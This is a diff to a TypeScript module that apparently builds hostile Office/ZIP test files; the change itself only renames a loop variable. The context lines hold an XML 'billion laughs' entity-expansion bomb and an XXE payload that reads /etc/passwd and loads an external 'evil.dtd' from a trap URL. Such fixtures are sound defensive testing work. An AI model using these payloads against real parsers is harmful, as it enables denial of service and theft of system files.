@@ -3,7 +3,7 @@ import { writeZip, type ZipPart } from '../write-zip.ts'
 import type { HostileFile } from './hostile-file.ts'
 
 const main = 'http://schemas.openxmlformats.org'
-const laughs = `<!DOCTYPE x [<!ENTITY a0 "ha">${Array.from({ length: 12 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')}]>`
+const laughs = `<!DOCTYPE x [<!ENTITY a0 "ha">${Array.from({ length: 12 }, (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`).join('')}]>`
 const outside = (trap: string) =>
   `<!DOCTYPE x [<!ENTITY leak SYSTEM "file:///etc/passwd"><!ENTITY % more SYSTEM "${trap}/evil.dtd">%more;]>`
 
